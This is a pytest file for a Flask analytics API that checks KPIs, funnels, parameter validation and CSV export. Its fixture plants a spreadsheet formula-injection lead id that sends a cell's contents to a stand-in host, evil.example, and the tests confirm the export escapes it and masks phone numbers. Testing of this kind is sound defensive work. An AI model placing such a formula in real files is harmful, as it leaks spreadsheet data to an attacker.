"""/api/v1 over real chDB, Valkey and SQLite (Flask test client): shapes, parameters, errors, CSV."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from flask import Flask
from oracle import journeys, make_asset, make_call, make_deposit, make_trade
from scenarios import DAY

from ecc import metadata
from ecc.contract.validate import validate
from ecc.live.live_store import LiveStore
from ecc.services import Services
from ecc.sink import SinkStats, store_batch
from ecc.web.api import create_api

T0 = DAY + timedelta(hours=9)
PERIOD = {"from": DAY.isoformat(), "to": (DAY + timedelta(days=1)).isoformat()}


@pytest.fixture
def client(ch, redis_client, settings):
    engine = metadata.connect(settings.metadata)
    metadata.migrate(engine)
    services = Services(settings=settings, live=LiveStore(redis_client), ch=ch, meta=engine)
    app = Flask(__name__)
    app.register_blueprint(create_api(services))
    raw = journeys({"L1": [(s, T0 + timedelta(minutes=s)) for s in range(1, 12)],
                    "L2": [(1, T0), (2, T0 + timedelta(minutes=1))]}, channel="douyin", province="云南")
    raw += [{**e, "phone": "13812341234"} if e["type"] == "lead" else e for e in
            journeys({"L3": [(1, T0), (2, T0 + timedelta(minutes=3))]}, channel="wechat")]
    # Finding 8: a lead id that a spreadsheet would run as a formula.
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    raw += journeys({evil: [(1, T0), (2, T0 + timedelta(minutes=5))]}, channel="douyin", province="+云南")
    raw += [make_call("L1", T0 + timedelta(minutes=30)),
            make_deposit("A-L1", T0 + timedelta(hours=1), "50000.00", first=True),
            make_asset("A-L1", T0 + timedelta(hours=2), {"stock": "30000", "cash": "512.30"},
                       segment="wealth"),
            make_trade("A-L1", T0 + timedelta(hours=3), "20000", "wealth")]
    now_ms = int((DAY + timedelta(days=1)).timestamp() * 1000)
    store_batch(ch, [validate(e, phone_key="k", now_ms=now_ms) for e in raw], [], SinkStats())
    return app.test_client()


def test_kpis_period_and_filters(client):
    body = client.get("/api/v1/kpis", query_string=PERIOD).get_json()
    assert body["leads"] == 4 and body["reach"]["1"] == 4 and body["reach"]["2"] == 4
    assert body["opened"] == 1 and body["step_conversion"]["2"] == pytest.approx(1 / 4)
    assert body["deposit_amount"] == "50000.00" and body["aum"] == "30512.30"
    assert body["dial_rate"] == pytest.approx(1 / 4) and body["deposit_rate"] == 1.0
    assert set(body) >= {"freshness_s", "turnover_rate", "wealth_preference", "rejects", "reject_rate"}
    wechat = client.get("/api/v1/kpis", query_string={**PERIOD, "channel": "wechat"}).get_json()
    assert wechat["leads"] == 1 and wechat["opened"] == 0 and wechat["open_rate"] == 0.0
    assert wechat["deposit_rate"] is None  # no account opened: "—", not 0
    yunnan = client.get("/api/v1/kpis", query_string={**PERIOD, "province": "云南"}).get_json()
    assert yunnan["leads"] == 2


def test_channels_rows_carry_names(client):
    rows = client.get("/api/v1/channels", query_string=PERIOD).get_json()["channels"]
    douyin = next(r for r in rows if r["channel"] == "douyin")
    assert douyin["leads"] == 3 and douyin["name_zh"] == "抖音" and douyin["name_en"] == "Douyin"


def test_funnel_and_dropped_csv(client):
    funnel = client.get("/api/v1/funnel", query_string=PERIOD).get_json()
    assert funnel["window_hours"] == 72 and funnel["cohort"]["1"] == 4 and funnel["cohort"]["11"] == 1
    dropped = client.get("/api/v1/funnel/dropped", query_string={**PERIOD, "step": 2}).get_json()
    assert sorted(r["lead_id"] for r in dropped["items"])[1:] == ["L2", "L3"]
    resp = client.get("/api/v1/funnel/dropped", query_string={**PERIOD, "step": 2},
                      headers={"Accept": "text/csv"})
    assert resp.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))
    assert {r["lead_id"] for r in rows} == {"L2", "L3", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"}
    assert "'+云南" in {r["province"] for r in rows}  # every text cell, not only the id
    assert "13812341234" not in resp.get_data(as_text=True)
    assert any(r.get("phone_masked") == "138****1234" for r in rows)


def test_assets_and_series(client):
    at = (DAY + timedelta(days=1)).isoformat()
    assets = client.get("/api/v1/assets", query_string={"at": at}).get_json()
    assert assets["total"] == "30512.30" and assets["by_class"]["stock"] == "30000.00"
    query = {**PERIOD, "metric": "leads", "interval": "1h"}
    series = client.get("/api/v1/series", query_string=query).get_json()
    assert len(series["points"]) == 24 and sum(p["value"] for p in series["points"]) == 4
    assert len(series["previous_day"]) == 24 and len(series["previous_week"]) == 24


@pytest.mark.parametrize("path, query, fragment", [
    ("/api/v1/kpis", {"from": "2026-11-21T00:00:00"}, "UTC offset"),
    ("/api/v1/kpis", {"from": "yesterday"}, "not an ISO-8601"),
    ("/api/v1/kpis", {"from": "2026-11-22T00:00:00+08:00", "to": "2026-11-21T00:00:00+08:00"}, "after from"),
    ("/api/v1/kpis", {"channel": "抖音"}, "channel must match"),
    ("/api/v1/funnel", {"window_hours": "0"}, "window_hours must be between"),
    ("/api/v1/funnel/dropped", {}, "step is required"),
    ("/api/v1/funnel/dropped", {"step": "11"}, "step must be between 1 and 10"),
    ("/api/v1/series", {"metric": "nope"}, "metric must be one of"),
    ("/api/v1/series", {"metric": "leads", "interval": "2m"}, "interval must be one of"),
    ("/api/v1/series", {"metric": "leads", "interval": "1m", "from": "2020-01-01T00:00:00+08:00"}, "buckets"),
    ("/api/v1/rejects", {"limit": "x"}, "limit must be an integer"),
    # Finding 8: year 0001 was a 500 from ClickHouse; out-of-range instants are the caller's mistake.
    ("/api/v1/kpis", {"from": "0001-01-01T00:00:00+00:00"}, "from must be between 1970-01-01 and 2100-01-01"),
    ("/api/v1/channels", {"from": "0001-01-01T00:00:00+00:00"}, "from must be between"),
    ("/api/v1/funnel", {"from": "0001-01-01T00:00:00+00:00"}, "from must be between"),
    ("/api/v1/funnel/dropped", {"step": "2", "from": "0001-01-01T00:00:00+00:00"}, "from must be between"),
    ("/api/v1/series", {"metric": "leads", "to": "9999-12-31T00:00:00+00:00"}, "to must be between"),
    ("/api/v1/assets", {"at": "1969-12-31T00:00:00+00:00"}, "at must be between"),
])
def test_bad_parameters_are_400_with_a_reason(client, path, query, fragment):
    resp = client.get(path, query_string=query)
    assert resp.status_code == 400
    assert fragment in resp.get_json()["error"]


def test_rejects_health_metrics_openapi(client):
    assert client.get("/api/v1/rejects").get_json() == {"total": 0, "items": []}
    health = client.get("/api/v1/health")
    assert health.get_json()["components"]["clickhouse"]["up"] is True
    # No broker and no worker here: the numbers cannot move, but every store answers.
    assert health.get_json()["components"]["broker"]["up"] is False
    assert health.get_json()["status"] == "degraded" and health.status_code == 200
    assert "ecc_up{component=\"redis\"} 1" in client.get("/metrics").get_data(as_text=True)
    doc = client.get("/api/v1/openapi.json").get_json()
    assert doc["openapi"].startswith("3.") and "/api/v1/funnel/dropped" in doc["paths"]
    assert set(doc["components"]["schemas"]["Kpis"]["properties"]) >= {"leads", "reach", "deposit_rate"}
    assert client.get("/api/v1/nope").status_code == 404


def test_dropped_call_back_list_takes_idle_hours(client):
    body = client.get("/api/v1/funnel/dropped", query_string={**PERIOD, "step": 2}).get_json()
    assert body["idle_hours"] == 2.0  # the contract's default
    assert all(row["idle_hours"] >= 2 for row in body["items"]), body
    assert {"L2", "L3"} <= {row["lead_id"] for row in body["items"]} and body["count"] == len(body["items"])
    for bad in ("soon", "-1", "nan", "100000"):
        resp = client.get("/api/v1/funnel/dropped", query_string={**PERIOD, "step": 2, "idle_hours": bad})
        assert resp.status_code == 400 and "idle_hours" in resp.get_json()["error"]
